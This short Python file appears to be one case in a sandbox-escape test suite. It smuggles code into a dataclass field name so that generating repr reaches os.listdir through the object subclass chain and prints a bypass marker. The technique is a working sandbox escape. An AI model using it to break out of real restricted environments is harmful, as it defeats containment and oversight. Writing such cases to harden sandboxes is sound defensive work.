# dataclasses builds its methods' source from field names, which a class's __annotations__ sets
# to any string.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "101_dataclass_field_name_exec"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import dataclasses


class Row:
    __annotations__ = {
        "x or won(sorted([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "
        "'_wrap_close'][0].__init__.__globals__['listdir']('/'))[:3])": int,
    }


Row = dataclasses.dataclass(init=False, eq=False)(Row)
row = Row()
row.x = 0
repr(row)
